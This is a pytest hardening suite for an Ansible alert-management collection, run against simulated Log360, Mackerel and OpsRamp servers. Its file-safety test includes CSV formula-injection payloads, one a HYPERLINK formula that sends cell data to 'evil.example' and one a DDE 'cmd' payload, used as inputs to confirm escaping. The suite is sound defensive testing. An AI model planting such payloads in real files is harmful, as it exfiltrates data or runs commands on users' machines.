# -*- coding: utf-8 -*-
# Copyright: (c) 2026, alertops.core contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Hardening suite: bad input, secrets at -vvvv, check mode, faults, and 50 hosts at once.

At the end of the session one line sums it up (summed over xdist workers):
``hardening: cases=N faults_injected=N alerts_lost=N alerts_doubled=N secrets_found=N files_unsafe=N claims_doubled=N
redirects_followed=N secret_fragments_found=N deadline_overruns=N``
(files_unsafe: formula cells left in CSV, group/world-readable hits, temp files left behind; claims_doubled: a close
claimed as changed by two runs; redirects_followed: requests that reached the host a redirect named;
secret_fragments_found: 8-character pieces of a secret in any output; deadline_overruns: requests to a dripping
server that outlived request_timeout by more than 3 s).
"""

from __future__ import absolute_import, division, print_function

import base64
import collections
import csv
import fcntl
import json
import os
import re
import ssl
import stat
import sys
import tempfile
import threading
import time
import urllib.parse
import urllib.request

import pytest

import hostile
from conftest import start_simulator

WRITE_METHODS = ('POST', 'PUT', 'DELETE')
TOKEN_PATH = re.compile(r'/oauth/token$')
MACKEREL_CLOSE = re.compile(r'^/api/v0/alerts/([^/]+)/close$')
OPSRAMP_ACTION = re.compile(r'/alerts/([^/]+)/actions/(\w+)$')
FIGURES = collections.Counter(cases=0, faults_injected=0, alerts_lost=0, alerts_doubled=0, secrets_found=0,
                              files_unsafe=0, claims_doubled=0, redirects_followed=0, secret_fragments_found=0,
                              deadline_overruns=0)


# ------------------------------------------------------------------------------------------------- summary line
def _summary_dir():
    run = os.environ.get('PYTEST_XDIST_TESTRUNUID') or 'single-%d' % os.getpid()
    path = os.path.join(tempfile.gettempdir(), 'alertops-hardening-' + run)
    os.makedirs(path, exist_ok=True)
    return path


@pytest.fixture(scope='session', autouse=True)
def hardening_summary(request):
    """Print the figures once: the last xdist worker to finish sums every worker's figures and prints the line."""
    yield
    workers = int(os.environ.get('PYTEST_XDIST_WORKER_COUNT') or 1)
    folder = _summary_dir()
    with open(os.path.join(folder, 'lock'), 'a') as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        name = os.environ.get('PYTEST_XDIST_WORKER') or 'main'
        with open(os.path.join(folder, name + '.json'), 'w') as handle:
            json.dump(dict(FIGURES), handle)
        parts = [f for f in os.listdir(folder) if f.endswith('.json')]
        if len(parts) < workers:
            return
        total = collections.Counter()
        for part in parts:
            with open(os.path.join(folder, part)) as handle:
                total.update(json.load(handle))
    line = 'hardening: cases=%(cases)d faults_injected=%(faults_injected)d alerts_lost=%(alerts_lost)d ' \
           'alerts_doubled=%(alerts_doubled)d secrets_found=%(secrets_found)d files_unsafe=%(files_unsafe)d ' \
           'claims_doubled=%(claims_doubled)d redirects_followed=%(redirects_followed)d ' \
           'secret_fragments_found=%(secret_fragments_found)d deadline_overruns=%(deadline_overruns)d' % total
    capman = request.config.pluginmanager.getplugin('capturemanager')
    with capman.global_and_fixture_disabled():
        sys.stderr.write('\n' + line + '\n')
        sys.stderr.flush()
    for part in os.listdir(folder):
        os.unlink(os.path.join(folder, part))
    os.rmdir(folder)


# ------------------------------------------------------------------------------------------------- helpers
def writes(sim, **kwargs):
    return [r for r in sim.requests(**kwargs) if r['method'] in WRITE_METHODS and not TOKEN_PATH.search(r['path'])]


def assert_ok(result):
    assert result.rc == 0, result
    assert 'Traceback' not in result.output, result


def count_secrets(output, secrets):
    found = sum(output.count(s) for s in secrets if s)
    FIGURES['secrets_found'] += found
    return found


def all_secrets(sim, extra=()):
    secrets = list(sim.control('mackerel', 'credentials')['keys'].values())
    secrets += list(sim.control('log360', 'credentials')['tokens'].values())
    for client in sim.control('opsramp', 'credentials')['clients'].values():
        secrets.append(client['client_secret'])
    secrets += sim.control('opsramp', 'issued_tokens')['tokens']
    return [s for s in set(secrets) | set(extra) if s]


def opsramp_token(sim):
    """A real OAuth2 token from the simulator (as a user would paste it)."""
    client = sim.control('opsramp', 'credentials')['clients']['manage']
    data = urllib.parse.urlencode(dict(grant_type='client_credentials', **dict(
        (k, client[k]) for k in ('client_id', 'client_secret')))).encode()
    with urllib.request.urlopen(urllib.request.Request(sim.url + '/tenancy/auth/oauth/token', data=data), timeout=30) as resp:
        return json.loads(resp.read().decode())['access_token']


def tls_control(tls, path):
    context = ssl.create_default_context(cafile=tls.cert)
    with urllib.request.urlopen(tls.url + path, timeout=30, context=context) as resp:
        return json.loads(resp.read().decode())


def open_mackerel(sim):
    return [a for a in sim.control('mackerel', 'alerts')['alerts'] if a['status'] != 'OK']


def open_opsramp(sim):
    return [a for a in sim.control('opsramp', 'alerts')['alerts']
            if not a.get('closed') and not a.get('acknowledged') and not a.get('suppressed')]


@pytest.fixture(scope='module')
def tls_sim(tmp_path_factory):
    # its own folder: start_simulator names the port file after the pytest process, which the main simulator uses
    proc, tls = start_simulator(str(tmp_path_factory.mktemp('tls-sim')), ['--tls'])
    yield tls
    proc.terminate()
    proc.wait(10)


# ------------------------------------------------------------------------------------------------- bad input
EXPECT = {
    # Log360
    'l_html': 'HTML page', 'l_truncated': 'not valid JSON', 'l_bad_time': 'option start_time',
    'l_reversed': 'before start_time', 'l_wrong_kind': 'kind=logs', 'l_too_many_ids': 'at most 100',
    'l_missing_token': 'LOG360_TOKEN', 'l_wrong_token': 'HTTP 401', 'l_expired_token': 'token invalid, revoked or expired',
    'l_scope_alerts': 'scope alerts.READ', 'l_scope_search': 'scope search.READ', 'l_scope_jobs_read': 'scope jobs.READ',
    'l_scope_jobs_delete': 'scope jobs.DELETE', 'l_unknown_job': 'not found', 'l_wait_unknown': 'not found',
    'l_expired_job': 'expired: results live 24 h', 'l_failed_wait': 'FAILED', 'l_failed_results': 'ended FAILED, it has no results',
    'l_page_type': "'page'", 'l_format_choice': 'xml', 'l_tls': 'certificate',
    # Mackerel
    'm_html': 'HTML', 'm_truncated': 'not valid JSON', 'm_limit': 'option limit must be between 1 and 100',
    'm_limit_zero': 'option limit must be between 1 and 100', 'm_bad_time': 'option opened_after',
    'm_reversed': 'opened_before', 'm_unknown_id': 'no such alert: NoSuchAlert1', 'm_info_unknown': 'no such alert NoSuchAlert2',
    'm_wrong_key': 'HTTP 401', 'm_missing_key': 'MACKEREL_APIKEY', 'm_read_only': 'Write permission',
    'm_no_access': 'IP address range', 'm_no_reason': 'option reason is required', 'm_no_selection': 'all_alerts',
    'm_max_items_type': "'max_items'", 'm_status_choice': 'BROKEN', 'm_tls': 'certificate',
    # OpsRamp
    'o_html': 'HTML', 'o_truncated': 'not valid JSON', 'o_unknown': 'HTTP 404',
    'o_unknown_action': 'no such alert', 'o_bad_query_key': 'unknown key(s) state', 'o_bad_time': 'option start_time',
    'o_reversed': 'is before start_time', 'o_no_id': 'missing: id', 'o_wrong_secret': 'HTTP 401',
    'o_wrong_token': 'Invalid access token', 'o_expired_token': 'HTTP 401', 'o_missing_creds': 'OPSRAMP_CLIENT_SECRET',
    'o_read_only': 'HTTP 403', 'o_bad_tenant': 'option tenant_id', 'o_state_choice': 'deleted',
    'o_snooze_type': "'snooze_duration'", 'o_query_type': "'query'", 'o_tls': 'certificate',
    # lookup
    'k_platform': 'nagios', 'k_bad_time': 'opened_after', 'k_wrong_key': 'HTTP 401', 'k_opsramp_unknown': '999999',
    'k_log360_scope': 'scope alerts.READ', 'k_max_items_type': 'max_items', 'k_tls': 'certificate',
}


def test_bad_input_fails_clearly_changes_nothing_and_shows_no_secret(sim, play, tls_sim):
    assert tls_control(tls_sim, '/_sim/log360/credentials') == sim.control('log360', 'credentials')
    l360 = sim.control('log360', 'credentials')['tokens']
    m_keys = sim.control('mackerel', 'credentials')['keys']
    ops = sim.control('opsramp', 'credentials')
    expired_token = opsramp_token(sim)
    sim.advance(8000)                                    # past the ~2 h token lifetime
    jobs = dict(
        job_done=sim.control('log360', 'jobs', {'hits': 30, 'duration': 0})['request_id'],
        job_old=sim.control('log360', 'jobs', {'hits': 30, 'duration': 0, 'age': 90000})['request_id'],
        job_failed=sim.control('log360', 'jobs', {'hits': 30, 'duration': 0, 'fail': True})['request_id'])
    mk_open = open_mackerel(sim)
    op_open = open_opsramp(sim)
    wrong_secret, wrong_token = 'opsrampWrongSecretZ9y8x7w6v5u4', 'opsrampWrongTokenQ1w2e3r4t5y6u7'
    sim.configure(faults={'script': [
        {'platform': 'log360', 'method': 'GET', 'path': '^/api/v2/jobs$', 'fault': 'html', 'count': 1},
        {'platform': 'log360', 'method': 'GET', 'path': '^/api/v2/jobs/results$', 'fault': 'truncated', 'count': 1},
        {'platform': 'mackerel', 'method': 'GET', 'path': '^/api/v0/alerts/%s$' % mk_open[-1]['id'], 'fault': 'html'},
        {'platform': 'mackerel', 'method': 'GET', 'path': '^/api/v0/alerts/%s$' % mk_open[-2]['id'], 'fault': 'truncated'},
        {'platform': 'opsramp', 'method': 'GET', 'path': '/alerts/%s$' % op_open[-1]['uniqueId'], 'fault': 'html'},
        {'platform': 'opsramp', 'method': 'GET', 'path': '/alerts/%s$' % op_open[-2]['uniqueId'], 'fault': 'truncated'},
    ]})
    evars = dict(jobs, expect=EXPECT, l360_tokens=l360, m_keys=m_keys, tls_url=tls_sim.url,
                 m_html_id=mk_open[-1]['id'], m_truncated_id=mk_open[-2]['id'], m_good_ids=[a['id'] for a in mk_open[:3]],
                 o_html_id=op_open[-1]['uniqueId'], o_truncated_id=op_open[-2]['uniqueId'],
                 o_good_ids=[a['uniqueId'] for a in op_open[:2]], o_wrong_secret=wrong_secret, o_wrong_token=wrong_token,
                 o_expired_token=expired_token, o_read_client=ops['clients']['read'])
    mk_before = sim.control('mackerel', 'alerts')
    op_before = sim.control('opsramp', 'alerts')
    jobs_before = sorted(j['request_id'] for j in sim.control('log360', 'jobs')['jobs'])
    sim.clear_log()
    result = play('hardening_bad_input.yml', extra_vars=evars, verbosity=4)
    FIGURES['cases'] += len(EXPECT)
    assert_ok(result)
    assert 'ok: [localhost] => (item=%s)' % sorted(EXPECT)[0] in result.output or 'item=' in result.output
    # no state changed: no write accepted anywhere, data identical, no job created or deleted
    accepted = [(r['method'], r['path'], r['status']) for r in writes(sim) if r['status'] is None or r['status'] < 400]
    assert accepted == []
    assert [r for r in tls_sim_requests(tls_sim) if r['method'] in WRITE_METHODS] == []
    assert sim.control('mackerel', 'alerts') == mk_before
    assert sim.control('opsramp', 'alerts') == op_before
    assert sorted(j['request_id'] for j in sim.control('log360', 'jobs')['jobs']) == jobs_before
    # validation failures are caught before anything is sent
    assert not [r for r in sim.requests(platform='mackerel') if r['query'].get('limit') in (['101'], ['0'])]
    assert not [r for r in writes(sim, platform='log360') if r['status'] not in (401, 403)]   # only refused submits
    secrets = all_secrets(sim, extra=(wrong_secret, wrong_token, expired_token))
    assert count_secrets(result.output, secrets) == 0


def test_validate_certs_off_works_with_a_self_signed_server(sim, play, tls_sim):
    # the environment of an execution environment / most CI images: a CA bundle named in REQUESTS_CA_BUNDLE
    bundle = '/etc/ssl/certs/ca-certificates.crt'
    result = play('hardening_tls_off.yml', extra_vars={'tls_url': tls_sim.url},
                  env={'REQUESTS_CA_BUNDLE': bundle, 'CURL_CA_BUNDLE': bundle})
    assert_ok(result)


def tls_sim_requests(tls):
    return tls_control(tls, '/_sim/requests')['requests']


# ------------------------------------------------------------------------------------------------- check mode
def test_check_mode_sends_no_write(sim, play):
    mk = [a['id'] for a in open_mackerel(sim)[:4]]
    ops = [a['uniqueId'] for a in open_opsramp(sim)[:3]]
    job = sim.control('log360', 'jobs', {'hits': 1500, 'duration': 0})['request_id']
    before = (sim.control('mackerel', 'alerts'), sim.control('opsramp', 'alerts'))
    sim.clear_log()
    result = play('hardening_check_mode.yml', check=True, verbosity=4,
                  extra_vars={'m_ids': mk, 'o_ids': ops, 'job_done': job})
    assert_ok(result)
    assert writes(sim) == []
    assert (sim.control('mackerel', 'alerts'), sim.control('opsramp', 'alerts')) == before
    assert job in [j['request_id'] for j in sim.control('log360', 'jobs')['jobs']]
    assert count_secrets(result.output, all_secrets(sim)) == 0


# ------------------------------------------------------------------------------------------------- faults
FAULTS = {'rate_503': 0.10, 'rate_drop_before': 0.025, 'rate_drop_after': 0.025, 'burst_429': 23,
          'burst_429_length': 3, 'retry_after': '0', 'seed': 5}


def effective_actions(log, pattern, action=None):
    """id -> number of writes that took effect (answered 2xx, or dropped after the server acted)."""
    out = collections.Counter()
    for r in log:
        match = pattern.search(r['path'])
        if r['method'] != 'POST' or not match or (action and match.group(match.lastindex) != action):
            continue
        if (r['status'] is not None and 200 <= r['status'] < 300) or r['fault'] == 'drop_after':
            out[match.group(1)] += 1
    return out


def tally(target, acted):
    lost = len(set(target) - set(acted))
    doubled = len([i for i, n in acted.items() if n > 1])
    FIGURES['alerts_lost'] += lost
    FIGURES['alerts_doubled'] += doubled
    return lost, doubled


def test_faults_every_target_exactly_once(sim, play):
    now = int(time.time())
    raised = sim.control('mackerel', 'raise', {'count': 40, 'monitor_id': 'HardeningMon1', 'host_id': 'hardenhost01',
                                               'at': now - 60})['alerts']
    m_target = [a['id'] for a in raised]
    o_raised = sim.control('opsramp', 'raise', {'count': 20, 'device': 'harden-01', 'at': now - 60})['alerts']
    o_close, o_ack = [a['uniqueId'] for a in o_raised[:12]], [a['uniqueId'] for a in o_raised[12:]]
    occ_id = sim.control('opsramp', 'credentials')['occurrence_alerts']['ties']
    occ_count = len(sim.control('opsramp', 'occurrences?id=%s' % occ_id)['occurrences'])
    job = sim.control('log360', 'jobs', {'hits': 2500, 'duration': 0})['request_id']
    mk_before = dict((a['id'], a) for a in sim.control('mackerel', 'alerts')['alerts'])
    sim.configure(faults=FAULTS)
    sim.clear_log()
    result = play('hardening_faults.yml', env={'ALERTOPS_RETRIES': '12'}, extra_vars={
        'm_monitor': 'HardeningMon1', 'm_count': len(m_target), 'o_close_ids': o_close, 'o_ack_ids': o_ack,
        'o_occ_id': occ_id, 'o_occ_count': occ_count, 'job_done': job, 'job_hits': 2500})
    log = sim.requests()
    injected = collections.Counter(r['fault'] for r in log if r['fault'])
    FIGURES['faults_injected'] += sum(injected.values())
    assert_ok(result)
    assert 'failed=0' in result.output
    assert set(injected) >= {'503', '429', 'drop_before', 'drop_after'}, injected
    m_acted = effective_actions([r for r in log if r['platform'] == 'mackerel'], MACKEREL_CLOSE)
    assert tally(m_target, m_acted) == (0, 0)
    assert set(m_acted) == set(m_target)                  # nothing else closed
    o_log = [r for r in log if r['platform'] == 'opsramp']
    o_closed = effective_actions(o_log, OPSRAMP_ACTION, 'close')
    o_acked = effective_actions(o_log, OPSRAMP_ACTION, 'acknowledge')
    assert tally(o_close, o_closed) == (0, 0) and tally(o_ack, o_acked) == (0, 0)
    assert set(o_closed) == set(o_close) and set(o_acked) == set(o_ack)
    assert set(effective_actions(o_log, OPSRAMP_ACTION)) == set(o_close) | set(o_ack)
    after = dict((a['id'], a) for a in sim.control('mackerel', 'alerts')['alerts'])
    for alert_id, alert in mk_before.items():
        if alert_id not in m_target:
            assert after[alert_id] == alert


# ------------------------------------------------------------------------------------------------- load
def test_fifty_hosts_each_close_their_own_alerts(sim, play, tmp_path):
    hosts, per_host = 50, 2
    at = int(time.time()) - 120
    lines = ['[load]']
    target = {}
    for n in range(hosts):
        host_id = 'loadHost%03d' % n
        raised = sim.control('mackerel', 'raise', {'count': per_host, 'host_id': host_id, 'at': at})['alerts']
        target.update((a['id'], host_id) for a in raised)
        lines.append('h%03d ansible_connection=local ansible_python_interpreter=%s mackerel_host_id=%s'
                     % (n, sys.executable, host_id))
    inventory = tmp_path / 'load-hosts.ini'
    inventory.write_text('\n'.join(lines) + '\n')
    before = dict((a['id'], a) for a in sim.control('mackerel', 'alerts')['alerts'])
    sim.configure(faults=dict(FAULTS, rate_503=0.05, rate_drop_before=0.02, rate_drop_after=0.02, burst_429=31, seed=9,
                              platforms=['mackerel']))
    sim.clear_log()
    started = time.time()
    result = play('hardening_load.yml', inventory=str(inventory), forks=25, extra_vars={'per_host': per_host},
                  env={'ALERTOPS_RETRIES': '12'})
    elapsed = time.time() - started
    log = sim.requests(platform='mackerel')
    FIGURES['faults_injected'] += len([r for r in log if r['fault']])
    assert_ok(result)
    assert re.search(r'h049\s+: ok=2 .*failed=0', result.output), result
    acted = effective_actions(log, MACKEREL_CLOSE)
    assert tally(target, acted) == (0, 0)
    assert set(acted) == set(target)
    after = dict((a['id'], a) for a in sim.control('mackerel', 'alerts')['alerts'])
    for alert_id, host_id in target.items():
        assert after[alert_id]['reason'] == 'CHG-LOAD: h%s' % host_id[-3:]
    assert all(after[i] == a for i, a in before.items() if i not in target)
    assert elapsed < 110


# ------------------------------------------------------------------------------------------------- files on disk
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTAB', '\rCR']
FORMULA = ('=', '+', '-', '@', '\t', '\r')


def _mode(path):
    return stat.S_IMODE(os.lstat(str(path)).st_mode)


def test_files_on_disk_are_safe(sim, play, tmp_path):
    at = int(time.time()) - 3 * 86400                     # older than every seeded alert: the window holds only these
    for n, text in enumerate(HOSTILE):
        sim.control('log360', 'raise', {'count': 1, 'at': at + n, 'message': text, 'device': text})
    files_dir, empty_dir, shared_dir = tmp_path / 'files', tmp_path / 'empty', tmp_path / 'shared'
    for folder in (files_dir, empty_dir, shared_dir):
        folder.mkdir()
    os.chmod(str(shared_dir), 0o1777)
    for fmt in ('csv', 'json', 'jsonl'):
        (files_dir / ('keep.' + fmt)).write_text('old\n')
    fifo = tmp_path / 'fifo'
    os.mkfifo(str(fifo))
    os.symlink(str(fifo), str(tmp_path / 'link-to-fifo'))
    # a character device of our own (the null device, 1:3): a regression must never get to replace /dev/null itself
    device = tmp_path / 'null-device'
    try:
        os.mknod(str(device), 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except (OSError, AttributeError):
        device = None
    bad_dests = [dict(name='fifo', path=str(fifo), expect='is a FIFO'),
                 dict(name='directory', path=str(files_dir), expect='is a directory'),
                 dict(name='link_to_fifo', path=str(tmp_path / 'link-to-fifo'), expect='symbolic link to a FIFO')]
    if device is not None:
        bad_dests.append(dict(name='device', path=str(device), expect='is a character device'))
    big_job = sim.control('log360', 'jobs', {'hits': 2500, 'duration': 0})['request_id']
    sim.configure(faults={'script': [{'platform': 'log360', 'method': 'GET', 'path': '^/api/v2/jobs/results$',
                                      'query': 'request_id=%s&page=2' % big_job, 'fault': 'truncated', 'count': 3}]})
    new_report_dir = tmp_path / 'fresh-reports'
    result = play('hardening_files.yml', extra_vars=dict(
        window_start=at - 1, window_end=at + len(HOSTILE), files_dir=str(files_dir), empty_dir=str(empty_dir),
        bad_dests=bad_dests, big_job=big_job, hostile_count=len(HOSTILE), shared_dir=str(shared_dir),
        new_report_dir=str(new_report_dir)))
    FIGURES['cases'] += 7
    assert_ok(result)
    unsafe = []
    # csv: every hostile cell (Device and Message) starts with ', none starts with a formula character
    rows = list(csv.DictReader(open(str(files_dir / 'hits.csv'), newline='')))
    cells = [value for row in rows for value in row.values() if value]
    unsafe += [c for c in cells if c.startswith(FORMULA)]
    assert sorted(r['Message'] for r in rows) == sorted("'" + t for t in HOSTILE)
    assert sorted(r['Device'] for r in rows) == sorted("'" + t for t in HOSTILE)
    # json and jsonl: values unchanged
    assert sorted(h['Message'] for h in json.loads((files_dir / 'hits.json').read_text())) == sorted(HOSTILE)
    jsonl = [json.loads(line) for line in (files_dir / 'hits.jsonl').read_text().splitlines()]
    assert sorted(h['Message'] for h in jsonl) == sorted(HOSTILE)
    # modes: 0600 by default, an explicit mode applies to an existing file
    modes = dict((p.name, _mode(p)) for p in files_dir.iterdir())
    assert modes == {'hits.csv': 0o640, 'hits.json': 0o600, 'hits.jsonl': 0o600,
                     'keep.csv': modes['keep.csv'], 'keep.json': modes['keep.json'], 'keep.jsonl': modes['keep.jsonl']}
    unsafe += [name for name, mode in modes.items() if name.startswith('hits.') and mode & 0o007]
    # a failed run leaves the old file and no temp file; check mode wrote nothing at all
    assert [(files_dir / ('keep.' + f)).read_text() for f in ('csv', 'json', 'jsonl')] == ['old\n'] * 3
    assert list(empty_dir.iterdir()) == []
    # refused destinations are untouched, and refused before any request
    assert stat.S_ISFIFO(os.lstat(str(fifo)).st_mode) and os.path.islink(str(tmp_path / 'link-to-fifo'))
    assert device is None or stat.S_ISCHR(os.lstat(str(device)).st_mode)
    search_id = [j['request_id'] for j in sim.control('log360', 'jobs')['jobs'] if j['kind'] == 'alerts']
    assert len(search_id) == 1
    reads = [r for r in sim.requests(platform='log360', method='GET') if r['query'].get('request_id') == search_id]
    assert len([r for r in reads if r['path'] == '/api/v2/jobs/results']) == 3 + 3 + 1     # written, checked, remoded
    # the role: an existing directory keeps its mode, a new one is 0700, the files are 0600
    assert _mode(shared_dir) == 0o1777
    assert _mode(new_report_dir) == 0o700
    report_modes = dict((p.name, _mode(p)) for d in (shared_dir, new_report_dir) for p in d.iterdir())
    assert report_modes == {'shared.jsonl': 0o600, 'shared.html': 0o600, 'fresh.jsonl': 0o600, 'fresh.html': 0o600}
    FIGURES['files_unsafe'] += len(unsafe)
    assert unsafe == []


# ------------------------------------------------------------------------------------------------- hostile endpoints
# Credentials the hostile server must never get back out of us, in any rendering (the OpsRamp secret has a blank,
# '+', '/' and '&' so that URL, form and JSON encodings all differ from the raw form).
HOSTILE_ENV = {'LOG360_TOKEN': 'l360TokHostile9f8e7d6c5b4a3210', 'MACKEREL_APIKEY': 'mkrKeyHostile0123456789abcdefXYZ',
               'OPSRAMP_CLIENT_ID': 'hostile-client', 'OPSRAMP_CLIENT_SECRET': 'opsSecret Hostile+/=&4455667788',
               'OPSRAMP_TENANT_ID': 'client_7', 'OPSRAMP_TOKEN': ''}
HOSTILE_SECRETS = [HOSTILE_ENV[k] for k in ('LOG360_TOKEN', 'MACKEREL_APIKEY', 'OPSRAMP_CLIENT_SECRET')]


def secret_fragments(text, secrets, size=8):
    """Every `size`-character piece of a secret, in each rendering a server or a library may produce, found in text."""
    found = []
    for secret in secrets:
        for form in hostile.renderings(secret) + [secret.strip()]:
            for i in range(len(form) - size + 1):
                if form[i:i + size] in text:
                    found.append(form[i:i + size])
    return sorted(set(found))


def count_fragments(*texts, secrets=HOSTILE_SECRETS):
    """The secret fragments found, each with where it was found (so a failure shows the leaking line)."""
    text = '\n'.join(texts)
    found = secret_fragments(text, secrets)
    FIGURES['secret_fragments_found'] += len(found)
    return [(f, text[max(text.find(f) - 160, 0):text.find(f) + 40]) for f in found]


@pytest.fixture
def hostile_server():
    servers = []

    def make(tls=None):
        server = hostile.Hostile(tls)
        servers.append(server)
        return server
    yield make
    for server in servers:
        server.close()


def run_hostile(play, tmp_path, cases, env=None, verbosity=3):
    """Run hardening_hostile.yml; return (outcomes by case name, playbook output + ANSIBLE_LOG_PATH log, seconds)."""
    log = tmp_path / ('ansible-%d.log' % int(time.time() * 1000))
    full_env = dict(HOSTILE_ENV, ANSIBLE_LOG_PATH=str(log))
    full_env.update(env or {})
    started = time.time()
    result = play('hardening_hostile.yml', extra_vars={'cases': cases}, env=full_env, verbosity=verbosity)
    elapsed = time.time() - started
    assert result.rc == 0, result
    assert 'Traceback' not in result.output, result
    outcomes = json.loads((tmp_path / 'hostile.json').read_text())
    assert sorted(outcomes) == sorted(c['name'] for c in cases), result
    FIGURES['cases'] += len(cases)
    text = result.output + (log.read_text() if log.exists() else '') + json.dumps(outcomes)
    return outcomes, text, elapsed


def every_platform(name, url, lookup=True, **extra):
    cases = [dict(extra, name='%s_%s' % (name, p), platform=p, url=url) for p in ('log360', 'mackerel', 'opsramp')]
    if lookup:
        cases += [dict(extra, name='%s_lookup_%s' % (name, p), platform=p, url=url, lookup=True)
                  for p in ('mackerel', 'opsramp')]
    return cases


def test_redirects_are_never_followed(play, hostile_server, tmp_path):
    capture = hostile_server()
    server = hostile_server()
    server.mode, server.capture = 'redirect', capture
    cases = []
    for status in (301, 302, 307, 308):
        cases += every_platform('redirect_%d' % status, '%s/s%d' % (server.url, status), lookup=status == 307)
    outcomes, text, _elapsed = run_hostile(play, tmp_path, cases)
    FIGURES['redirects_followed'] += len(capture.seen)
    assert capture.seen == []                                   # nothing reached the other host
    assert len(server.seen) == len(cases)                       # one request each: not retried either
    for name, outcome in outcomes.items():
        status = name.split('_')[1]
        assert outcome['failed'] is True, name
        assert 'HTTP %s' % status in outcome['msg'], outcome
        assert 'redirect' in outcome['msg'] and capture.url + '/' in outcome['msg'], outcome
        assert 'leaked-query-secret' not in outcome['msg'], outcome
        assert 'option url' in outcome['msg'], outcome
    assert 'leaked-query-secret' not in text
    assert count_fragments(text) == []


def test_a_dripping_server_fails_the_task_within_the_deadline(play, hostile_server, tmp_path):
    headers = hostile_server()
    body = hostile_server()
    headers.mode, body.mode = 'drip', 'drip_body'
    headers.drip_seconds = body.drip_seconds = 25
    cases = (every_platform('drip_headers', headers.url, request_timeout=2, retries=0)
             + [dict(name='drip_body_mackerel', platform='mackerel', url=body.url, request_timeout=2, retries=0),
                dict(name='drip_body_lookup', platform='mackerel', url=body.url, request_timeout=2, retries=0, lookup=True)])
    outcomes, text, elapsed = run_hostile(play, tmp_path, cases)
    # a drip is recorded when its handler notices the hang-up, which can be after the playbook returned
    assert headers.settle() and body.settle()
    assert len(headers.seen) == 5 and len(body.seen) == 2                # every case reached its server once
    overruns = [d for d in headers.drips + body.drips if d > 2 + 3]
    FIGURES['deadline_overruns'] += len(overruns)
    assert overruns == [], headers.drips + body.drips
    assert len(headers.drips) == 5 and len(body.drips) == 2
    for name, outcome in outcomes.items():
        assert outcome['failed'] is True and 'request_timeout' in outcome['msg'], (name, outcome)
    assert elapsed < 7 * 5 + 30
    assert count_fragments(text) == []


def test_echoed_secrets_never_come_back_in_any_encoding(play, hostile_server, tmp_path):
    html, plain = hostile_server(), hostile_server()
    html.mode = plain.mode = 'echo'
    html.status, plain.status = 401, 400
    plain.content_type = 'text/plain'
    userinfo = 'svc-user:UserinfoPass-7a6b5c4d3e'
    html.secrets = plain.secrets = HOSTILE_SECRETS + ['UserinfoPass-7a6b5c4d3e']
    outcomes, text, _elapsed = run_hostile(play, tmp_path, every_platform('echo_html', html.url)
                                           + every_platform('echo_text', plain.url), verbosity=4)
    # a password in url, given the way AWX gives it (environment; a loop variable would be shown by Ansible itself)
    with_user = plain.url.replace('http://', 'http://%s@' % userinfo)
    user_cases = [dict(c, url=None) for c in every_platform('echo_userinfo', with_user)]
    user_outcomes, user_text, _elapsed = run_hostile(
        play, tmp_path, user_cases, verbosity=4,
        env={'LOG360_URL': with_user, 'MACKEREL_APIBASE': with_user, 'OPSRAMP_URL': with_user})
    outcomes.update(user_outcomes)
    text += user_text
    assert '********@127.0.0.1' in user_text                    # the module_args at -vvvv show it masked
    for name, outcome in outcomes.items():
        assert outcome['failed'] is True, name
        assert 'HTTP 40' in outcome['msg'], outcome
    # the server did get the credentials (so it could echo them)
    assert any(HOSTILE_ENV['MACKEREL_APIKEY'] in json.dumps(r['headers']) for r in plain.seen)
    assert any('client_secret=' in r['body'] for r in plain.seen)
    assert 'UserinfoPass-7a6b5c4d3e' in json.dumps(html.seen) + json.dumps(plain.seen) or \
        base64.b64encode(userinfo.encode()).decode() in json.dumps(plain.seen)
    assert count_fragments(text, secrets=HOSTILE_SECRETS + ['UserinfoPass-7a6b5c4d3e']) == []


def test_secrets_with_surrounding_whitespace_are_stripped_and_never_shown(sim, play, tmp_path, hostile_server):
    """A token from a `|` block scalar or a multi-line AWX field ends with a newline: it still works, and a
    credential with a line break inside fails clearly without showing itself."""
    creds = sim_credentials_env(sim)
    padded = dict((k, '  %s\n' % v) for k, v in creds.items() if k in ('LOG360_TOKEN', 'MACKEREL_APIKEY', 'OPSRAMP_CLIENT_SECRET'))
    result = play('hardening_tls_off.yml', extra_vars={'tls_url': sim.url}, env=padded, verbosity=3)
    assert_ok(result)
    broken = {'LOG360_TOKEN': 'l360Tok\nInner9f8e7d6c5b4a', 'MACKEREL_APIKEY': 'mkrKey\nInner0123456789abcd',
              'OPSRAMP_CLIENT_SECRET': 'opsSecret\r\nInner4455667788'}
    cases = every_platform('inner_newline', sim.url)
    outcomes, text, _elapsed = run_hostile(play, tmp_path, cases, env=broken, verbosity=4)
    for name, outcome in outcomes.items():
        assert outcome['failed'] is True, name
        if name.endswith('opsramp'):      # a form value carries a line break (encoded): the server refuses it
            assert 'HTTP 401' in outcome['msg'], outcome
            continue
        assert 'line break' in outcome['msg'], outcome
        assert 'unexpected error' not in outcome['msg'] and 'InvalidHeader' not in outcome['msg'], outcome
        if 'lookup' in name:
            assert "failed: alertops.core.alerts: " in outcome['msg'], outcome
    assert count_fragments(text, secrets=list(broken.values()) + [v.strip() for v in padded.values()]) == []


def sim_credentials_env(sim):
    from conftest import sim_credentials
    return sim_credentials(sim)


BAD_OPTIONS = [
    ('timeout_zero', dict(request_timeout=0), 'option request_timeout'),
    ('timeout_nan', dict(request_timeout='nan'), 'option request_timeout'),
    ('timeout_inf', dict(request_timeout='inf'), 'option request_timeout'),
    ('url_ftp', dict(url='ftp://127.0.0.1:21'), 'option url'),
    ('url_htp', dict(url='htp://127.0.0.1:21'), 'option url'),
    ('url_blank', dict(url='{url} '), 'option url'),
]


def test_bad_connection_options_fail_clearly_before_sending(play, hostile_server, tmp_path):
    server = hostile_server()
    cases = []
    for name, options, _expect in BAD_OPTIONS:
        options = dict(options, url=options.get('url', '{url}').format(url=server.url))
        cases += every_platform(name, **options)
    cases.append(dict(name='log360_api_v2', platform='log360', url=server.url + '/api/v2'))
    cases.append(dict(name='log360_api_v2_slash_lookup', platform='log360', url=server.url + '/api/v2/', lookup=True))
    outcomes, text, _elapsed = run_hostile(play, tmp_path, cases)
    assert server.seen == []
    expect = dict((n, e) for n, _o, e in BAD_OPTIONS)
